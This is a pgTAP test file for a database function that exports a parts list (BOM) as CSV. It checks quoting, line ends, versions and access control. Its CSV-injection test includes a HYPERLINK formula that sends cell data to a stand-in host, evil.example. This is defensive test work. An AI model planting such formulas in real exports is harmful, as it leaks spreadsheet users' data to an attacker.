-- export_bom_csv: RFC 4180 text (header row, CRLF line ends, fields with a comma, a quote, CR or
-- LF quoted with quotes doubled), formula-like text neutralised, any version, readers only.
begin;
select plan(14);

select tests.create_user('alice');
select tests.create_user('carol');
select tests.create_user('dave');
select tests.authenticate_as('alice');
select set_config('t.chat', (public.create_chat(title => 'Export')).id::text, true);
select public.add_chat_member(current_setting('t.chat')::uuid, tests.get_user_id('carol'), 'viewer');
select set_config('t.bom', (public.create_artifact_with_version(current_setting('t.chat')::uuid, null, 'bom', 'BOM', null,
  $${"components": [
    {"name": "ESP32-DevKitC", "part_number": "ESP32-DEVKITC-32E", "manufacturer": "Espressif", "quantity": 1,
     "unit_price": 12.5, "currency": "USD", "voltage": "3.3V", "current": "500mA", "interface_type": "USB",
     "supplier": "DigiKey", "supplier_url": "https://www.digikey.com/en/products/detail/espressif/ESP32-DEVKITC-32E/12091810"},
    {"name": "Resistor 4.7k, 1/4W", "quantity": 2, "unit_price": 0.1, "currency": "USD"},
    {"name": "OLED 0.96\" display", "manufacturer": "Generic\r\nAliExpress", "quantity": 1, "unit_price": 6.5, "currency": "USD",
     "voltage": 3.3},
    {"name": "Jumper wires", "quantity": 40, "unit_price": 0.05, "currency": "EUR", "supplier": "line one\nline two"}]}$$,
  null) -> 'artifact' ->> 'id'), true);
select public.add_artifact_version(current_setting('t.bom')::uuid, content_json =>
  '{"components": [{"name": "ESP32-DevKitC", "quantity": 3, "unit_price": 12.5, "currency": "USD"}]}');

select set_config('t.csv', public.export_bom_csv(current_setting('t.bom')::uuid, 1), true);
select is(split_part(current_setting('t.csv'), e'\r\n', 1),
  'item,name,part_number,manufacturer,quantity,unit_price,currency,line_total,voltage,current,interface_type,supplier,supplier_url',
  'the first line is the header');
select is(split_part(current_setting('t.csv'), e'\r\n', 2),
  '1,ESP32-DevKitC,ESP32-DEVKITC-32E,Espressif,1,12.5,USD,12.5,3.3V,500mA,USB,DigiKey,https://www.digikey.com/en/products/detail/espressif/ESP32-DEVKITC-32E/12091810',
  'a plain row is written as is');
select is(split_part(current_setting('t.csv'), e'\r\n', 3), '2,"Resistor 4.7k, 1/4W",,,2,0.1,USD,0.2,,,,,',
  'a field with a comma is quoted; empty fields stay empty');
select ok(strpos(current_setting('t.csv'), e'3,"OLED 0.96"" display",,"Generic\r\nAliExpress",1,6.5,USD,6.5,3.3,,,,\r\n') > 0,
  'quotes are doubled inside quotes, and a field with CR LF is quoted');
select ok(strpos(current_setting('t.csv'), e'4,Jumper wires,,,40,0.05,EUR,2.00,,,,"line one\nline two",\r\n') > 0,
  'a field with a bare LF is quoted');
select results_eq(
  $$ select right(current_setting('t.csv'), 2), (length(current_setting('t.csv')) - length(replace(current_setting('t.csv'), e'\r\n', ''))) / 2 $$,
  $$ values (e'\r\n', 6) $$, 'every record ends with CRLF (5 records, plus the CR LF inside a quoted field)');
select is(public.export_bom_csv(current_setting('t.bom')::uuid),
  e'item,name,part_number,manufacturer,quantity,unit_price,currency,line_total,voltage,current,interface_type,supplier,supplier_url\r\n1,ESP32-DevKitC,,,3,12.5,USD,37.5,,,,,\r\n',
  'the current version by default');
select throws_ok(format($$ select public.export_bom_csv(%L, 7) $$, current_setting('t.bom')), 'PT404', 'version 7 not found',
  'a missing version is a 404');
select set_config('t.prd', (public.create_artifact_with_version(current_setting('t.chat')::uuid, null, 'prd', 'PRD', 'text', null,
  null) -> 'artifact' ->> 'id'), true);
select throws_ok(format($$ select public.export_bom_csv(%L) $$, current_setting('t.prd')), '22023',
  'artifact is a prd, not a bom: only a BOM exports as CSV', 'only a BOM exports');

-- CSV injection (OWASP): text that a spreadsheet would run as a formula is neutralised
select set_config('t.evil', (public.create_artifact_with_version(current_setting('t.chat')::uuid, null, 'bom', 'Evil BOM',
  null, $${"components": [
    {"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "quantity": 1, "unit_price": 1, "currency": "USD",
     "part_number": "+1-555", "manufacturer": "-2+3", "supplier": "@SUM(A1:A9)", "interface_type": "\tI2C",
     "current": 0.5, "voltage": 3.3},
    {"name": "Plain, with a comma", "part_number": "\r=1+1", "quantity": 2, "unit_price": 0.5, "currency": "USD",
     "manufacturer": "-5"}]}$$,
  null) -> 'artifact' ->> 'id'), true);
select is(split_part(public.export_bom_csv(current_setting('t.evil')::uuid), e'\r\n', 2),
  e'1,"''=HYPERLINK(""http://evil.example/?""&A1,""click"")","''+1-555","''-2+3",1,1,USD,1,3.3,0.5,"''\tI2C","''@SUM(A1:A9)",',
  'cells starting with =, +, -, @ or tab get a leading quote and are quoted; JSON numbers stay numbers');
select ok(strpos(public.export_bom_csv(current_setting('t.evil')::uuid), e'2,"Plain, with a comma","''\r=1+1","''-5",2,0.5,USD,1.0,,,,,\r\n') > 0,
  'so does text starting with CR, and text that merely looks like a negative number');

select tests.authenticate_as('carol');
select is(public.export_bom_csv(current_setting('t.bom')::uuid, 2) is not null, true, 'a viewer exports');
select tests.authenticate_as('dave');
select throws_ok(format($$ select public.export_bom_csv(%L) $$, current_setting('t.bom')), 'PT404', 'artifact not found',
  'a stranger cannot');
select tests.clear_authentication();
select throws_ok(format($$ select public.export_bom_csv(%L) $$, current_setting('t.bom')), '42501', null, 'nor anon');

select * from finish();
rollback;
